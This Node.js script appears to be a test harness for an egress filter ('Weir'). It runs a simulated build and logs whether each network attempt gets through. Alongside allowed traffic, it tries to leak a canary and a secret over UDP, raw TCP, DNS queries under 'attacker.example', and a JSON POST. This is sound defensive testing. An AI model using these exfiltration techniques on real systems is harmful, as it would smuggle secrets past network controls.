// A build that runs, and leaks all the while; one line of JSON for each thing tried: {t, what, got}.
//   build.mjs                 until the file /tmp/done is there; status 0 when an allowed GET works at the end
//   build.mjs spend PATH N    N posts one after another, and what came of each
import { createHash } from 'node:crypto';
import dgram from 'node:dgram';
import { existsSync, readFileSync } from 'node:fs';
import https from 'node:https';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const { NAME, CANARY, LEAK_V4, LEAK_PORT, KNOWN_SECRET, READS, UPLOADS, REGISTRY } = process.env;
const TIMEOUT_MS = 5000;
const END_WITHIN_MS = 30_000;
const BODY = JSON.stringify({ build: 'web', tests: 'passed'.repeat(30) });

/** The status, the reason when Weir refused it, or the code of the error. `agent: false`: a handshake of its own each time. */
function ask(method, url, { body, agent = false } = {}) {
  return new Promise((resolve) => {
    const headers = body === undefined ? {} : { 'content-type': 'application/json', 'content-length': body.length };
    const request = https.request(url, { method, agent, headers, timeout: TIMEOUT_MS }, (response) => {
      let text = '';
      response.setEncoding('latin1');
      response.on('data', (chunk) => {
        text = (text + chunk).slice(0, 4096);
      });
      response.on('error', () => resolve('cut'));
      response.on('end', () => {
        const reason = /"reason":"([^"]*)"/.exec(text)?.[1];
        resolve(response.statusCode === 200 ? 'ok' : `${response.statusCode} ${reason ?? ''}`.trim());
      });
    });
    request.on('timeout', () => request.destroy(Object.assign(new Error(), { code: 'TIMEOUT' })));
    request.on('error', ({ code, message }) => resolve(code ?? message));
    request.end(body);
  });
}
const post = (path) => ask('POST', `https://${UPLOADS}${path}`, { body: BODY });

const sockets = { 4: dgram.createSocket('udp4'), 53: dgram.createSocket('udp4') };
for (const socket of Object.values(sockets)) socket.on('error', () => {});
const datagram = (socket, data, port, address) =>
  new Promise((resolve) => socket.send(data, port, address, (error) => resolve(error?.code ?? 'sent')));

function connection() {
  return new Promise((resolve) => {
    const socket = net.connect({ host: LEAK_V4, port: Number(LEAK_PORT), timeout: 1000 });
    socket.on('connect', () => socket.write(CANARY));
    socket.on('data', () => resolve('answered'));
    socket.on('timeout', () => socket.destroy());
    socket.on('error', ({ code }) => resolve(code));
    socket.on('close', () => resolve('closed'));
  });
}

function question(n) {
  const labels = [`${CANARY}-${n}`, 'attacker', 'example'];
  const head = Buffer.from([n >> 8, n & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([
    head,
    ...labels.map((l) => Buffer.from([l.length, ...Buffer.from(l)])),
    Buffer.from([0, 0, 1, 0, 1]),
  ]);
}

const resolver = /^nameserver (\S+)/m.exec(readFileSync('/etc/resolv.conf', 'latin1'))?.[1];
const kept = new https.Agent({ keepAlive: true, maxSockets: 1 });
let over = false;
async function loop(what, pauseMs, act) {
  for (let n = 0; !over; n++) {
    const t = Date.now();
    const got = await act(n & 0xffff);
    console.log(JSON.stringify({ t, what, got }));
    await sleep(pauseMs);
  }
}

async function build() {
  const loops = [
    loop('get', 150, (n) => ask('GET', `https://${READS}/ok/${NAME}/${n}`)),
    loop('npm', 1000, () => ask('GET', `https://${REGISTRY}/is-number`, { agent: kept })),
    loop('post', 500, () => post(`/steady/${NAME}`)),
    loop('ca', 1000, () =>
      createHash('sha256').update(readFileSync('/etc/weir/trust/ca.crt')).digest('hex').slice(0, 8),
    ),
    loop('leak-udp', 200, () => datagram(sockets[4], CANARY, Number(LEAK_PORT), LEAK_V4)),
    loop('leak-tcp', 200, connection),
    loop('leak-dns', 200, async (n) => {
      await datagram(sockets[53], question(n), 53, LEAK_V4);
      return datagram(sockets[53], question(n), 53, resolver);
    }),
    ...(KNOWN_SECRET === undefined
      ? []
      : [
          loop('leak-secret', 200, () =>
            ask('POST', `https://${READS}/ok/${NAME}`, { body: JSON.stringify({ note: KNOWN_SECRET }), agent: kept }),
          ),
        ]),
  ];
  while (!existsSync('/tmp/done')) await sleep(100);
  over = true;
  await Promise.all(loops);
  let last;
  for (const end = Date.now() + END_WITHIN_MS; Date.now() < end && last !== 'ok'; await sleep(200)) {
    last = await ask('GET', `https://${READS}/ok/${NAME}/end`);
  }
  console.log(JSON.stringify({ t: Date.now(), what: 'end', got: last }));
  process.exit(last === 'ok' ? 0 : 1);
}

const [, , mode, path, count] = process.argv;
if (mode === 'spend') {
  for (let n = 0; n < Number(count); n++) console.log(await post(path));
  process.exit(0);
}
await build();
